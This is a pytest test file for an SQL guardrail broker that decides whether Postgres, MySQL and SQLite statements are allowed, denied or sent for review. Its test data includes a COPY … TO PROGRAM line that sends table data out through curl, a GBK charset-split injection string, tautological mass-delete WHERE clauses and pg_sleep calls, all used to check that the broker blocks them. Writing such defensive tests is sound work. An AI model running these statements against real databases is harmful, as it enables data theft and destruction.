    ("mysql", "SELECT * FROM a WHERE b IN (SELECT c FROM d)", {"a", "d"}),
    ("mysql", "WITH c AS (SELECT * FROM t) SELECT * FROM c", {"t"}),
    ("mysql", "DELETE t1 FROM t1 JOIN t2 ON t1.a = t2.a", {"t1", "t2"}),
    ("mysql", "UPDATE t JOIN s ON t.a = s.a SET t.b = 1 WHERE s.c = 2", {"t", "s"}),
    ("mysql", "INSERT INTO t (a) SELECT a FROM s", {"t", "s"}),
    ("mysql", "REPLACE INTO t SELECT * FROM s", {"t", "s"}),
    ("mysql", "USE db", set()),
    ("mysql", "CREATE DATABASE d", set()),
    ("mysql", "DROP DATABASE d", set()),
    ("sqlite", "SELECT * FROM [My Table]", {"my table"}),
    ("sqlite", 'SELECT * FROM main."T"', {"main.t"}),
    (
        "sqlite",
        "WITH d AS (SELECT * FROM s) DELETE FROM x WHERE a IN (SELECT * FROM d)",
        {"s", "x"},
    ),
    ("sqlite", "EXPLAIN QUERY PLAN SELECT * FROM t", {"t"}),
]


@pytest.mark.parametrize(("dialect", "text", "tables"), TABLES_FOUND)
def test_tables_are_found_everywhere_in_a_statement(
    dialect: Dialect, text: str, tables: set[str]
) -> None:
    statement = one(text, dialect)
    assert set(statement.tables) == tables
    assert len(statement.tables) == len(tables)  # each table once


def test_tables_keep_the_order_they_are_first_written_in() -> None:
    assert one("SELECT * FROM b JOIN a USING (id) JOIN b AS c USING (id)").tables == ("b", "a")


TABLES_DENIED = [
    ("postgres", "SELECT * FROM public.secrets"),
    ("postgres", "SELECT * FROM secrets"),  # unqualified: public
    ("postgres", 'SELECT * FROM "SECRETS"'),
    ("postgres", "SELECT * FROM mydb.public.secrets"),
    ("postgres", "SELECT * FROM x WHERE id IN (SELECT id FROM public.secrets)"),
    ("postgres", "SELECT * FROM x WHERE EXISTS (SELECT 1 FROM secrets s WHERE s.id = x.id)"),
    ("postgres", "WITH s AS (SELECT * FROM public.secrets) SELECT * FROM s"),
    ("postgres", "SELECT * FROM x JOIN (SELECT * FROM public.secrets) s USING (id)"),
    ("postgres", "INSERT INTO x SELECT * FROM public.secrets"),
    ("postgres", "WITH d AS (DELETE FROM public.secrets RETURNING *) SELECT 1"),
    ("postgres", "SELECT * FROM audit_log, public.secrets"),  # deny beats review
    ("postgres", "SET search_path = hidden; SELECT * FROM secrets"),
    ("postgres", "DROP TABLE secrets"),
    ("mysql", "SELECT * FROM public.secrets"),
    ("mysql", "SELECT * FROM secrets"),  # the current database could be `public`
    ("mysql", "SELECT * FROM x WHERE id IN (SELECT id FROM `public`.`secrets`)"),
    ("sqlite", "SELECT * FROM public.secrets"),
    ("sqlite", "WITH s AS (SELECT * FROM public.secrets) SELECT * FROM s"),
]

TABLES_REVIEWED = [
    ("postgres", "SELECT * FROM ops.audit_log"),
    ("postgres", "SELECT * FROM audit_log"),  # public.audit_log
    ("postgres", "SELECT * FROM x WHERE EXISTS (SELECT 1 FROM ops.audit_trail)"),
    ("postgres", "WITH a AS (SELECT * FROM ops.AUDIT) SELECT * FROM a"),
    ("mysql", "SELECT * FROM ops.audit_log"),
    ("mysql", "SELECT * FROM x JOIN audit_log USING (id)"),
    ("sqlite", "SELECT * FROM main.audit"),
    ("sqlite", "SELECT * FROM audit_trail"),  # main.audit_trail
]

TABLES_ALLOWED = [
    ("postgres", "SELECT * FROM billing.secrets"),
    ("postgres", "SELECT * FROM secrets_archive"),
    ("postgres", "WITH secrets AS (SELECT 1) SELECT * FROM secrets"),
    ("postgres", "SELECT 1"),
    ("mysql", "SELECT * FROM billing.secrets"),
    ("sqlite", "SELECT * FROM secrets"),  # main.secrets
]


@pytest.mark.parametrize(("dialect", "text"), TABLES_DENIED)
def test_table_rules_deny_through_subqueries_and_ctes(dialect: Dialect, text: str) -> None:
    decision = decide(text, dialect, TABLES)
    assert (decision.action, decision.rule) == ("deny", "secrets"), decision


@pytest.mark.parametrize(("dialect", "text"), TABLES_REVIEWED)
def test_table_patterns_with_wildcards(dialect: Dialect, text: str) -> None:
    decision = decide(text, dialect, TABLES)
    assert (decision.action, decision.rule) == ("review", "audit"), decision
    assert decision.approvers == ("auditors",)


@pytest.mark.parametrize(("dialect", "text"), TABLES_ALLOWED)
def test_other_tables_are_not_matched(dialect: Dialect, text: str) -> None:
    assert decide(text, dialect, TABLES).action == "allow"


@pytest.mark.parametrize(
    ("dialect", "text", "action"),
    [
        ("postgres", "SELECT * FROM reporting.sales", "allow"),
        (
            "postgres",
            "SELECT * FROM Reporting.Sales s JOIN reporting.regions r USING (id)",
            "allow",
        ),
        ("postgres", "WITH x AS (SELECT * FROM reporting.sales) SELECT * FROM x", "allow"),
        ("postgres", "SELECT * FROM reporting.sales JOIN public.users USING (id)", "deny"),
        ("postgres", "SELECT * FROM reporting.sales WHERE id IN (SELECT id FROM users)", "deny"),
        ("postgres", "SELECT * FROM sales", "deny"),  # public.sales
        ("postgres", "SELECT 1", "deny"),  # an allow rule with tables needs a table
        ("postgres", "WITH d AS (DELETE FROM reporting.sales RETURNING *) SELECT * FROM d", "deny"),
        ("postgres", "SELECT * INTO reporting.copy FROM reporting.sales", "deny"),
        ("mysql", "SELECT * FROM reporting.sales", "allow"),
        ("mysql", "SELECT * FROM sales", "deny"),  # the current database is not known
        ("sqlite", "SELECT * FROM reporting.sales", "allow"),
        ("sqlite", "SELECT * FROM sales", "deny"),  # main.sales
    ],
)
def test_allow_rules_need_every_table_to_match_for_certain(
    dialect: Dialect, text: str, action: str
) -> None:
    assert decide(text, dialect, REPORTING).action == action


@pytest.mark.parametrize(
    ("pattern", "table", "restrictive", "certain"),
    [
        ("accounts", "accounts", True, True),
        ("accounts", "public.accounts", True, True),
        ("accounts", "billing.accounts", True, True),
        ("ACC*", "db.public.accounts", True, True),
        ("*", "anything", True, True),
        ("public.accounts", "public.accounts", True, True),
        ("public.accounts", "accounts", True, True),  # unqualified: public
        ("public.accounts", "db.public.accounts", True, True),
        ("public.accounts", "billing.accounts", False, False),
        ("billing.*", "accounts", False, False),
        ("db.public.accounts", "public.accounts", True, False),  # the catalog is not known
        ("pg_catalog.pg_authid", "pg_authid", True, False),  # pg_catalog or public
        ("*.pg_authid", "pg_authid", True, True),
        ('public."a.b"', 'public."a.b"', True, True),
        ("public.a", 'public."a.b"', False, False),
    ],
)
def test_table_pattern_semantics_on_postgres(
    pattern: str, table: str, restrictive: bool, certain: bool
) -> None:
    names = sql._Names(sql_unit("postgres"))
    assert sql._tables_match([pattern], (table,), names, certain=False) is restrictive
    assert sql._tables_match([pattern], (table,), names, certain=True) is certain


# ------------------------------------------------------------------ statement texts


@pytest.mark.parametrize("dialect", DIALECTS)
def test_each_statement_keeps_its_own_text(dialect: Dialect) -> None:
    text = "SELECT 'é;ü' ;\n/* c */ DELETE FROM x /* keep */ WHERE id = 1; -- bye\n  SELECT 2"
    parsed = parse_sql(text, dialect)
    assert [s.text for s in parsed.statements] == [
        "SELECT 'é;ü'",
        "DELETE FROM x /* keep */ WHERE id = 1",
        "SELECT 2",
    ]
    assert [s.kind for s in parsed.statements] == ["SELECT", "DELETE", "SELECT"]


def test_postgres_partial_parse_keeps_the_pieces() -> None:
    parsed = parse_sql("SELECT 1; SELEC 2; DROP TABLE x", "postgres")
    assert parsed.unknown is not None and parsed.unknown.startswith("cannot parse")
    assert [(s.kind, s.unknown is None) for s in parsed.statements] == [
        ("SELECT", True),
        ("SELEC", False),
        ("DROP TABLE", True),
    ]


def test_attach_has_its_own_kind_and_is_unknown() -> None:
    (statement,) = parse_sql("ATTACH DATABASE 'other.db' AS o", "sqlite").statements
    assert statement.kind == "ATTACH"
    assert statement.unknown == "ATTACH opens another database file, which may be any file"
    policy = Policy(on_unknown="review", rules=[Rule(action="deny", statement=["ATTACH"])])
    assert decide("ATTACH 'other.db' AS o", "sqlite", policy).action == "deny"


def test_unparsed_statements_get_a_guessed_kind() -> None:
    parsed = parse_sql("DROP USER bob; LOAD DATA INFILE 'f' INTO TABLE x", "mysql")
    assert [s.kind for s in parsed.statements] == ["DROP USER", "LOAD DATA INFILE"]
    assert all(s.unknown for s in parsed.statements)


# ---------------------------------------------------------------- rule applicability


def test_shell_rules_never_match_sql() -> None:
    policy = Policy(
        default="allow",
        rules=[
            Rule(action="deny", program=["psql", "rm"]),
            Rule(action="deny", args=["DROP*"]),
            Rule(action="deny", program=["*"], regex="DROP"),
        ],
    )
    assert decide("DROP TABLE x", policy=policy).action == "allow"


def test_a_catch_all_rule_matches_every_statement() -> None:
    policy = Policy(default="allow", rules=[Rule(name="all", action="review")])
    decision = decide("SELECT 1", policy=policy)
    assert (decision.action, decision.rule) == ("review", "all")


def test_rules_are_tried_in_order_and_the_first_match_decides() -> None:
    policy = Policy(
        default="deny",
        rules=[
            Rule(name="scratch", action="allow", statement=["DROP TABLE"], tables=["scratch.*"]),
            Rule(name="no-drop", action="deny", statement=["DROP"]),
        ],
    )
    assert decide("DROP TABLE scratch.tmp", policy=policy).rule == "scratch"
    assert decide("DROP TABLE scratch.tmp, public.users", policy=policy).rule == "no-drop"


def test_all_keys_of_a_rule_must_hold() -> None:
    policy = Policy(
        rules=[Rule(action="deny", statement=["DELETE"], tables=["audit"], without_where=True)]
    )
    assert decide("DELETE FROM audit", policy=policy).action == "deny"
    assert decide("DELETE FROM audit WHERE id = 1", policy=policy).action == "allow"
    assert decide("DELETE FROM other", policy=policy).action == "allow"
    assert decide("UPDATE audit SET a = 1", policy=policy).action == "allow"


def test_regex_is_searched_in_each_statement_text() -> None:
    policy = Policy(rules=[Rule(name="sleep", action="deny", regex=r"(?i)\bpg_sleep\b")])
    decision = decide("SELECT 1; SELECT PG_SLEEP(10)", policy=policy)
    assert (decision.action, decision.rule, decision.matched) == ("deny", "sleep", "PG_SLEEP")
    assert decide("SELECT 1; SELECT 2", policy=policy).action == "allow"


def test_unnamed_rules_are_reported_by_position() -> None:
    policy = Policy(rules=[Rule(action="allow", statement=["SELECT"]), Rule(action="deny")])
    decision = decide("DELETE FROM x WHERE id = 1", policy=policy)
    assert decision.rule == "rule #2"
    assert decision.reason == "rule #2 matched `DELETE FROM x WHERE id = 1`"


def test_rule_settings_are_carried_by_the_decision() -> None:
    policy = Policy(
        rules=[
            Rule(
                name="writes",
                action="review",
                statement=["UPDATE"],
                approvers=["a", "b"],
                approvals=2,
                timeout=60,
                reason_required=True,
            )
        ]
    )
    decision = decide("UPDATE x SET a = 1 WHERE id = 1", policy=policy)
    assert decision == Decision(
        "review",
        "writes",
        "rule writes matched `UPDATE x SET a = 1 WHERE id = 1`",
        approvers=("a", "b"),
        approvals=2,
        timeout=60,
        reason_required=True,
        matched="UPDATE x SET a = 1 WHERE id = 1",
    )


def test_default_applies_when_no_rule_matches() -> None:
    decision = decide("SELECT 1", policy=Policy(default="review"))
    assert decision == Decision("review", None, "no rule matched `SELECT 1`; default review")


@pytest.mark.parametrize("dialect", DIALECTS)
def test_deny_beats_review_beats_allow_across_statements(dialect: Dialect) -> None:
    assert decide("SELECT 1; UPDATE x SET a = 1; DROP TABLE x", dialect).action == "deny"
    assert decide("UPDATE x SET a = 1; SELECT 1", dialect).action == "review"
    assert decide("SELECT 1; SELECT 2", dialect).action == "allow"


# ---------------------------------------------------------------------- fail closed


def test_an_exception_while_parsing_denies(monkeypatch: pytest.MonkeyPatch) -> None:
    def explode(*args: Any) -> Any:
        raise RuntimeError("parser exploded")

    monkeypatch.setattr(sql, "_pg_statement", explode)
    decision, parsed = decide_sql(GUARDRAILS, "SELECT 1", "postgres")
    assert decision == Decision("deny", None, "policy error: RuntimeError: parser exploded")
    assert parsed.statements == ()


def test_an_exception_while_judging_denies(monkeypatch: pytest.MonkeyPatch) -> None:
    def explode(*args: Any) -> Any:
        raise KeyError("boom")

    monkeypatch.setattr(sql, "_match", explode)
    decision, parsed = decide_sql(GUARDRAILS, "SELECT 1", "mysql")
    assert decision.action == "deny"
    assert decision.reason == "policy error: KeyError: 'boom'"
    assert [s.kind for s in parsed.statements] == ["SELECT"]


def test_a_bad_policy_or_dialect_denies() -> None:
    assert decide_sql(None, "SELECT 1", "postgres")[0].action == "deny"  # type: ignore[arg-type]
    assert decide_sql(GUARDRAILS, "SELECT 1", "oracle")[0].action == "deny"  # type: ignore[arg-type]


# ------------------------------------------------------------------ the documented policy


def _doc_policies() -> dict[str, Policy]:
    text = (REPO / "docs" / "policy.md").read_text()
    section = text[text.index("## SQL statements") :]
    policies: dict[str, Policy] = {}
    for block in re.findall(r"```toml\n(.*?)```", section, flags=re.S):
        for name, raw in tomllib.loads(block).get("policies", {}).items():
            policies[name] = Policy.model_validate(raw)
    return policies


def test_documented_sql_policies_load_and_behave_as_described() -> None:
    policies = _doc_policies()
    guard = policies["sql-guardrails"]

    def action(text: str, policy: Policy = guard, dialect: Dialect = "postgres") -> str:
        return decide(text, dialect, policy).action

    assert action("SELECT 1; DROP TABLE x") == "deny"
    assert action("UPDATE accounts SET plan = 'free'") == "review"
    assert action("EXPLAIN ANALYZE DELETE FROM sessions") == "review"
    assert action("WITH d AS (DELETE FROM sessions RETURNING *) SELECT count(*) FROM d") == "review"
    assert action("DELETE FROM sessions WHERE id = 7") == "allow"
    assert action("COPY accounts TO PROGRAM 'curl -d @- http://x'") == "deny"
    assert action("SELECT * FROM secrets") == "deny"
    assert action("DO $$ BEGIN END $$") == "review"
    assert action("GRANT ALL ON accounts TO bob") == "review"
    assert action("SET ROLE postgres") == "review"
    assert action("SELECT * FROM accounts WHERE id = 1") == "allow"
    assert action("TRUNCATE sessions", dialect="mysql") == "deny"
    assert action("DELETE FROM sessions", dialect="sqlite") == "review"

    read_only = policies["reporting-read-only"]
    assert action("SELECT * FROM reporting.sales", read_only) == "allow"
    assert action("EXPLAIN SELECT * FROM reporting.sales", read_only) == "allow"
    assert action("BEGIN", read_only) == "allow"
    assert action("SELECT * FROM reporting.sales JOIN public.users USING (id)", read_only) == "deny"
    assert action("SELECT * FROM sales", read_only) == "deny"
    assert action("SELECT 1", read_only) == "deny"
    text = "WITH d AS (DELETE FROM reporting.sales RETURNING *) SELECT * FROM d"
    assert action(text, read_only) == "deny"
    assert action("DO $$ BEGIN END $$", read_only) == "deny"


# ------------------------------------------------------- predicates, effects, session state
# The statements here are judged; tests/test_sql_semantics.py runs the same classes against
# the real servers and checks what happened to the data.

DESTROYS = Policy(
    default="allow", on_unknown="review", rules=[Rule(action="deny", effect=["destroys"])]
)

FOLDS_TO_TRUE = [
    ("postgres", "DELETE FROM t WHERE v IS NOT NULL OR true"),
    ("postgres", "DELETE FROM t WHERE id = id"),
    ("postgres", "DELETE FROM t WHERE t.id = id"),
    ("postgres", "DELETE FROM t AS a WHERE a.id >= id"),
    ("postgres", "DELETE FROM t WHERE ctid IS NOT NULL"),
    ("postgres", "DELETE FROM t WHERE NOT false"),
    ("postgres", "DELETE FROM t WHERE COALESCE(NULL, true)"),
    ("postgres", "DELETE FROM t WHERE 'a' = 'a'"),
    ("postgres", "DELETE FROM t WHERE 't'::boolean"),
    ("postgres", "DELETE FROM t WHERE id IS NOT DISTINCT FROM id"),
    ("postgres", "DELETE FROM t WHERE (id = 1 OR 2 > 1) AND true IS TRUE"),
    ("postgres", "UPDATE t SET a = 1 WHERE lower(name) = lower(name) OR 1 = 1"),
    ("mysql", "DELETE FROM t WHERE 1"),
    ("mysql", "DELETE FROM t WHERE '1abc'"),
    ("mysql", "DELETE FROM t WHERE id = id"),
    ("mysql", "DELETE FROM t WHERE id <=> id"),
    ("mysql", "DELETE FROM t WHERE id = 1 || true"),
    ("mysql", "DELETE FROM t WHERE NOT 0"),
    ("mysql", "UPDATE t SET a = 2 WHERE 2 > 1 AND a IS NOT NULL OR 1"),
    ("sqlite", "DELETE FROM t WHERE rowid IS NOT NULL"),
    ("mysql", "DELETE FROM t WHERE _rowid IS NOT NULL"),
    ("sqlite", "DELETE FROM t WHERE 1 = 1 AND 2 = 2"),
]

UNDECIDABLE = [
    ("postgres", "DELETE FROM x WHERE id IN (SELECT id FROM y)"),
    ("postgres", "DELETE FROM x WHERE EXISTS (SELECT 1 FROM y)"),
    ("postgres", "DELETE FROM x WHERE email IS NOT NULL"),
    ("postgres", "DELETE FROM x WHERE length(name) >= 0"),
    ("postgres", "DELETE FROM x WHERE name LIKE '%'"),
    ("postgres", "DELETE FROM x USING y WHERE x.id = y.id"),
    ("postgres", "UPDATE x SET a = y.a FROM y WHERE x.id = y.id"),
    ("postgres", "DELETE FROM x WHERE id + 0 = id"),
    ("postgres", "DELETE FROM x WHERE random() < 2"),
    ("mysql", "DELETE FROM x WHERE id IN (SELECT id FROM y)"),
    ("mysql", "DELETE x FROM x JOIN y ON x.a = y.a WHERE y.b = 1"),
    ("mysql", "DELETE FROM x WHERE id = 1 XOR 1"),
    # Where a row is stored says nothing about what it holds.
    ("postgres", "DELETE FROM x WHERE ctid >= '(0,0)'"),
    ("postgres", "UPDATE x SET a = 1 WHERE tableoid = 'x'::regclass"),
    ("sqlite", "DELETE FROM x WHERE rowid > 0"),
    ("sqlite", "DELETE FROM x WHERE id IN (SELECT id FROM y)"),
]


@pytest.mark.parametrize(("dialect", "text"), FOLDS_TO_TRUE)
def test_a_where_that_folds_to_true_counts_as_none(dialect: Dialect, text: str) -> None:
    decision = decide(text, dialect)
    assert (decision.action, decision.rule) == ("review", "unbounded-writes"), decision
    assert one(text, dialect).without_where is True


@pytest.mark.parametrize(("dialect", "text"), UNDECIDABLE)
def test_a_where_the_broker_cannot_decide_is_unknown_and_meets_without_where_rules(
    dialect: Dialect, text: str
) -> None:
    decision = decide(text, dialect)
    assert (decision.action, decision.rule) == ("review", "unbounded-writes"), decision
    assert "cannot show that its WHERE clause filters rows" in decision.reason
    assert one(text, dialect).without_where is None
    # An allow rule for bounded writes does not take what it cannot show.
    bounded = Policy(
        default="deny", on_unknown="deny", rules=[Rule(action="allow", without_where=False)]
    )
    assert decide(text, dialect, bounded).action == "deny"


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("postgres", "DELETE FROM t WHERE id = 5"),
        ("postgres", "UPDATE t SET a = 1 WHERE name LIKE 'a%' AND id IN (1, 2)"),
        ("postgres", "DELETE FROM t WHERE id BETWEEN $1 AND $2"),
        ("postgres", "DELETE FROM t WHERE lower(email) = 'a@b.c'"),
        ("postgres", "DELETE FROM t WHERE archived"),
        ("postgres", "DELETE FROM t WHERE id = ANY(ARRAY[1, 2])"),
        ("postgres", "DELETE FROM t WHERE id = 1 OR id = 2"),
        ("mysql", "DELETE FROM t WHERE id = 3"),
        ("mysql", "UPDATE t SET a = 1 WHERE t.id IN (1, 2) AND deleted_at IS NULL"),
        ("sqlite", "DELETE FROM t WHERE name = 'x'"),
    ],
)
def test_a_where_that_filters_is_a_where(dialect: Dialect, text: str) -> None:
    assert decide(text, dialect).action == "allow"
    assert one(text, dialect).without_where is False


EFFECT_DESTROYS = [
    ("postgres", "DELETE FROM t WHERE id = 5"),
    ("postgres", "UPDATE t SET a = 1 WHERE id = 5"),
    ("postgres", "TRUNCATE t"),
    ("postgres", "DROP TABLE t"),
    ("postgres", "ALTER TABLE t DROP COLUMN a"),
    ("postgres", "ALTER TABLE t ALTER COLUMN a TYPE int"),
    ("postgres", "ALTER TABLE t RENAME TO u"),
    ("postgres", "ALTER TABLE t RENAME COLUMN a TO b"),
    ("postgres", "ALTER TABLE t SET SCHEMA elsewhere"),
    ("postgres", "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1"),
    ("postgres", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1"),
    ("postgres", "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d"),
    ("postgres", "EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM t WHERE id = 1"),
    ("postgres", "EXPLAIN (ANALYZE) UPDATE t SET a = 1 WHERE id = 1"),
    ("postgres", "COPY (DELETE FROM t WHERE id = 1 RETURNING *) TO STDOUT"),
    ("postgres", "DELETE FORM t"),  # unparsable, but names DELETE
    ("mysql", "REPLACE INTO t VALUES (1)"),
    ("mysql", "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1"),
    ("mysql", "CREATE OR REPLACE TABLE t (id int)"),
    ("mysql", "ALTER TABLE t MODIFY COLUMN a varchar(2)"),
    ("mysql", "RENAME TABLE t TO u"),
    ("mysql", "ANALYZE DELETE FROM t WHERE id = 1"),
    ("mysql", "ANALYZE FORMAT=JSON UPDATE t SET a = 1 WHERE id = 1"),
    ("sqlite", "INSERT OR REPLACE INTO t VALUES (1)"),
    ("sqlite", "INSERT INTO t VALUES (1) ON CONFLICT(id) DO UPDATE SET a = 1"),
    ("sqlite", "DROP TABLE t"),
]


@pytest.mark.parametrize(("dialect", "text"), EFFECT_DESTROYS)
def test_effect_rules_see_what_destroys_data_wherever_it_sits(dialect: Dialect, text: str) -> None:
    assert decide(text, dialect, DESTROYS).action == "deny"


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("postgres", "SELECT * FROM t"),
        ("postgres", "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING"),
        ("postgres", "EXPLAIN (ANALYZE on, ANALYZE off) DELETE FROM t"),
        ("postgres", "CREATE TABLE u (id int)"),
        ("postgres", "ALTER TABLE t ADD COLUMN b int"),
        ("mysql", "INSERT INTO t VALUES (1)"),
        ("mysql", "CREATE TABLE u (id int)"),
        ("sqlite", "INSERT OR IGNORE INTO t VALUES (1)"),
    ],
)
def test_effect_rules_leave_what_does_not_destroy(dialect: Dialect, text: str) -> None:
    assert decide(text, dialect, DESTROYS).action == "allow"


def test_effects_name_reads_writes_session_and_code() -> None:
    assert one("SELECT * FROM t").effects == {"reads"}
    assert one("INSERT INTO t VALUES (1)").effects == {"writes"}
    assert one("INSERT INTO t SELECT * FROM s").effects == {"writes", "reads"}
    assert one("SET search_path = x").effects == {"session"}
    assert "code" in one("DO $$ BEGIN END $$").effects
    assert one("SET @x = 1", "mysql").effects == {"session"}
    policy = Policy(rules=[Rule(action="review", effect=["code"])])
    assert decide("CALL p()", policy=policy).action == "review"


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("mysql", "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE"),
        ("postgres", "MERGE INTO t USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE"),
        (
            "postgres",
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.x THEN UPDATE SET a = 1",
        ),
        ("postgres", "EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM t"),
        ("postgres", "EXPLAIN (ANALYZE false, ANALYZE) UPDATE t SET a = 1"),
        ("postgres", "explain (analyze 0, analyze 1) delete from t"),
    ],
)
def test_kind_rules_see_the_delete_and_update_inside_merge_and_explain(
    dialect: Dialect, text: str
) -> None:
    decision = decide(text, dialect)
    assert decision.action in ("review", "deny"), decision
    if dialect == "postgres":
        assert decision.rule == "unbounded-writes", decision


def test_create_or_replace_table_is_a_drop_to_kind_rules() -> None:
    decision = decide("CREATE OR REPLACE TABLE victim (id int)", "mysql")
    assert (decision.action, decision.rule) == ("deny", "no-drop"), decision
    assert decide("CREATE OR REPLACE VIEW v AS SELECT 1", "mysql").action == "allow"


REFUSED_STATE = [
    ("mysql", "SET NAMES gbk"),
    ("mysql", "set names 'big5'"),
    ("mysql", "SET CHARACTER SET sjis"),
    ("mysql", "SET CHARSET cp932"),
    ("mysql", "SET character_set_client = gb18030"),
    ("mysql", "SET @@session.character_set_client = 'gbk'"),
    ("mysql", "SET @x = 1, @@character_set_connection = gbk"),
    ("mysql", "SET SESSION collation_connection = 'gbk_chinese_ci'"),
    ("mysql", "SET GLOBAL character_set_client = gbk"),
    ("mysql", "SET sql_mode = 'NO_BACKSLASH_ESCAPES'"),
    ("mysql", "SET sql_mode = 'STRICT_TRANS_TABLES,ANSI_QUOTES'"),
    ("mysql", "SET @@sql_mode := 'ANSI'"),
    ("mysql", "SET sql_mode = CONCAT(@@sql_mode, ',ANSI_QUOTES')"),
    ("mysql", "SET SESSION sql_mode = ORACLE"),
    ("mysql", "SET STATEMENT sql_mode = 'NO_BACKSLASH_ESCAPES' FOR SELECT 1"),
    ("mysql", "SET /* x */ NAMES gbk"),
    ("postgres", "SET standard_conforming_strings = off"),
    ("postgres", "SET LOCAL standard_conforming_strings TO off"),
    ("postgres", "SET client_encoding = 'SJIS'"),
    ("postgres", "SET NAMES 'BIG5'"),
    ("postgres", "SET SESSION backslash_quote = on"),
]


@pytest.mark.parametrize(("dialect", "text"), REFUSED_STATE)
def test_settings_that_change_how_the_server_reads_text_are_refused(
    dialect: Dialect, text: str
) -> None:
    allow_all = Policy(default="allow", on_unknown="allow", rules=[Rule(action="allow")])
    decision = decide(text, dialect, allow_all)
    assert decision.action == "deny", decision
    assert "refused" in decision.reason


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("mysql", "SET sql_mode = 'STRICT_TRANS_TABLES,NO_ENGINE_SUBSTITUTION'"),
        ("mysql", "SET @names = 'gbk'"),
        ("mysql", "SET @x = 'SET NAMES gbk'"),
        ("mysql", "SET time_zone = '+00:00'"),
        ("postgres", "RESET client_encoding"),
        ("postgres", "SET statement_timeout = 1000"),
    ],
)
def test_other_settings_are_left_to_the_policy(dialect: Dialect, text: str) -> None:
    assert decide(text, dialect).action == "allow"


def test_the_gbk_split_does_not_pass() -> None:
    text = "SET NAMES gbk; UPDATE users SET notes = '忁\\' WHERE id = 1 AND notes = ' -- '"
    assert decide(text, "mysql").action == "deny"


def test_a_search_path_change_makes_names_unsure_for_the_rest_of_the_session() -> None:
    from broker.policy.sql_session import SessionState

    policy = Policy(rules=[Rule(action="deny", tables=["secret.*"])])
    state = SessionState()
    assert (
        decide_sql(policy, "DELETE FROM data WHERE id = 1", "postgres", state)[0].action == "allow"
    )
    assert decide_sql(policy, "SET search_path = secret", "postgres", state)[0].action == "allow"
    later = decide_sql(policy, "DELETE FROM data WHERE id = 1", "postgres", state)[0]
    assert later.action == "deny", later
    # A fresh session starts from the broker's known search path again.
    assert decide_sql(policy, "DELETE FROM data WHERE id = 1", "postgres")[0].action == "allow"


def test_an_executable_comment_stays_part_of_the_statement_that_runs() -> None:
    # MySQL runs what /*! … */ holds: the text the broker sends (and an approver approves) must
    # keep it, or `… /*! WHERE id = 1 */` would run without its WHERE.
    parsed = parse_sql("UPDATE t SET v = 'x' /*!WHERE id = 1*/; SELECT 1", "mysql")
    assert [s.text for s in parsed.statements] == [
        "UPDATE t SET v = 'x' /*!WHERE id = 1*/",
        "SELECT 1",
    ]
    assert decide("UPDATE t SET v = 'x' /*!WHERE id = 1*/", "mysql").action == "review"


@pytest.mark.parametrize("dialect", ["mysql", "sqlite"])
def test_nesting_that_would_make_the_parser_crawl_is_unknown_at_once(dialect: Dialect) -> None:
    # sqlglot's time doubles with each level of DATE(…): 24 levels would take minutes.
    import time

    text = "SELECT " + "DATE(" * 24 + "1" + ")" * 24
    started = time.monotonic()
    decision = decide(text, dialect)
    assert time.monotonic() - started < 10  # not the minutes sqlglot would take
    assert decision.action == "review" and decision.unknown
    assert "too deep" in decision.reason
